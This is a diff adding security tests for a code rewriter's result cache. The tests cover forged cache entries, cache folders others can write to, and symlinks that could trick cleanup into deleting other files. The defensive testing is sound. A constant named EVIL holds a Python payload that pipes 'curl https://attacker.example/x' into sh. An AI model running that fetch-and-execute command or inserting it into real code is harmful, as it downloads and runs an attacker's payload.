@@ -545,3 +545,152 @@ def test_templates_are_read_again_only_when_their_stat_changes(
     template.write_text(template.read_text().replace("app.handler", "app.other"))
     assert entry_points() == {"other"}
     assert len(parsed) == 3
+
+
+# The cache can only save work (issue 16): forged entries, someone else's folder, links inside it.
+
+EVIL = b"import os\n\nos.system('curl https://attacker.example/x | sh')\n"
+
+
+def _forge(folder: Path, forge) -> list[Path]:
+    """Rewrite every stored entry of ``folder`` through ``forge(entry) -> Entry``, sealed as the tool seals them."""
+    entries = sorted(p for p in (folder / cache_module.FORMAT).rglob("*") if p.is_file() and len(p.name) == 64)
+    assert entries, "the first run stored nothing"
+    for path in entries:
+        entry = cache_module._decode(path.read_bytes(), path.name)
+        path.write_bytes(cache_module._encode(path.name, forge(entry)))
+    return entries
+
+
+def _changed_only(entry: Entry, after: bytes) -> Entry:
+    return dataclasses.replace(entry, after=after) if entry.status == "changed" else entry
+
+
+def _repo_with_handler(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "app.py").write_text(HANDLER)
+    return root
+
+
+def test_cache_a_forged_result_that_passes_verification_is_never_written_by_apply(
+    tmp_path: Path, result_cache_dir: Path
+) -> None:
+    root = _repo_with_handler(tmp_path)
+    expected = process_file(_job(root / "app.py"), ()).after
+    assert invoke(["check", "."], root).exit_code == 1  # fills the cache
+    # Code that parses, compiles, keeps the file's newline style and that a second run leaves alone.
+    _forge(result_cache_dir, lambda entry: _changed_only(entry, expected + EVIL))
+    result = invoke(["apply", "."], root)
+    assert result.exit_code == 0, result.output
+    assert (root / "app.py").read_bytes() == expected
+    # The fresh result replaced the forged one.
+    assert invoke(["check", "."], root).exit_code == 0
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        pytest.param(lambda after: after + b"def broken(:\n", id="does-not-parse"),
+        pytest.param(lambda after: after.replace(b"\n", b"\r\n"), id="line-endings"),
+        pytest.param(lambda after: after.rstrip(b"\n"), id="final-newline"),
+        pytest.param(lambda after: b"\xef\xbb\xbf" + after, id="byte-order-mark"),
+        pytest.param(lambda after: after + b'\n\ndef again(event, context):\n    c = boto3.client("sqs")\n', id="not-idempotent"),
+    ],
+)
+def test_cache_a_forged_result_that_fails_verification_is_not_shown(
+    tmp_path: Path, result_cache_dir: Path, forged
+) -> None:
+    root = _repo_with_handler(tmp_path)
+    fresh = invoke(["diff", "--no-cache", "."], root).stdout
+    assert invoke(["diff", "."], root).stdout == fresh  # fills the cache
+    _forge(result_cache_dir, lambda entry: _changed_only(entry, forged(entry.after)))
+    result = invoke(["diff", "."], root)
+    assert result.exit_code == 0 and result.stdout == fresh
+
+
+def _forge_unchanged(entry: Entry) -> Entry:
+    return Entry("unchanged", [], [], "", None)
+
+
+def _unsafe(folder: Path, how: str) -> None:
+    if how == "group-writable":
+        folder.chmod(0o770)
+    elif how == "world-writable":
+        folder.chmod(0o1777)
+    elif how == "subfolder-world-writable":
+        (folder / cache_module.FORMAT).chmod(0o777)
+    elif how == "another-owner":
+        if os.geteuid() != 0:
+            pytest.skip("only root can give a folder to someone else")
+        os.chown(folder, 12345, 12345)
+
+
+@pytest.mark.parametrize("how", ["group-writable", "world-writable", "subfolder-world-writable", "another-owner"])
+def test_cache_a_folder_others_could_have_planted_results_in_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
+) -> None:
+    shared = tmp_path / "shared-volume" / "cache"
+    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_DIR", str(shared))
+    root = _repo_with_handler(tmp_path)
+    assert invoke(["check", "."], root).exit_code == 1
+    _forge(shared, _forge_unchanged)  # would hide the finding: the CI check goes green
+    assert invoke(["check", "."], root).exit_code == 0, "the forged entry is served from a private folder"
+    _unsafe(shared, how)
+    stored = sorted(p for p in shared.rglob("*"))
+    result = invoke(["check", "."], root)
+    assert result.exit_code == 1, result.output
+    [warning] = [line for line in result.stderr.splitlines() if "warning" in line]
+    assert "result cache not used" in warning and str(shared) in warning and "running without it" in warning
+    assert sorted(p for p in shared.rglob("*")) == stored  # nor written
+
+
+def test_cache_a_new_folder_and_its_parents_are_made_for_this_user_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = tmp_path / "home" / ".cache" / "lambda-rewriter"
+    monkeypatch.setenv("LAMBDA_REWRITER_CACHE_DIR", str(folder))
+    root = _repo_with_handler(tmp_path)
+    result = invoke(["check", "."], root)
+    assert result.exit_code == 1 and "warning" not in result.stderr
+    for made in (folder, folder.parent, folder.parent.parent):
+        assert os.stat(made).st_mode & 0o777 == 0o700, made
+    assert ResultCache(folder).refusal() is None
+
+
+def test_cache_trim_never_follows_a_link(tmp_path: Path) -> None:
+    cache = ResultCache(tmp_path / "cache")
+    for i in range(3):
+        cache.put(f"{i:02x}" + "0" * 62, Entry("unchanged", [], [], "", b"x" * 1000))
+    victims = tmp_path / "victims"
+    victims.mkdir()
+    precious = {"a" * 64: b"thesis", "b" * 64: b"photos", "notes.txt": b"keep"}
+    for name, data in precious.items():
+        (victims / name).write_bytes(data)
+    (cache.folder / "ff").symlink_to(victims, target_is_directory=True)  # a shard that is a link
+    (cache.folder / "00" / ("c" * 64)).symlink_to(victims / ("a" * 64))  # an entry that is a link
+    cache.max_bytes = 0
+    assert cache.trim() == 3
+    assert {p.name: p.read_bytes() for p in victims.iterdir()} == precious
+    assert [p.name for p in _entries(cache)] == ["c" * 64]  # the link, left as it is
+    # The same when the entries folder itself is a link.
+    moved = tmp_path / "cache2"
+    (moved / cache_module.FORMAT).parent.mkdir()
+    (moved / cache_module.FORMAT).symlink_to(victims, target_is_directory=True)
+    assert ResultCache(moved, max_bytes=0).trim() == 0
+    assert {p.name: p.read_bytes() for p in victims.iterdir()} == precious
+
+
+def test_cache_an_entry_that_is_a_link_or_someone_elses_is_a_miss(handler: Path, cache: ResultCache) -> None:
+    process_file(_job(handler), NAMES, cache)
+    key = _plant(cache, _job(handler))
+    path = cache.folder / key[:2] / key
+    elsewhere = path.parent.parent / "elsewhere"
+    path.rename(elsewhere)
+    path.symlink_to(elsewhere)
+    assert cache.get(key) is None
+    assert not _served(process_file(_job(handler), NAMES, cache))
+    if os.geteuid() == 0:
+        _plant(cache, _job(handler))
+        os.chown(path, 12345, 12345)
+        assert cache.get(key) is None
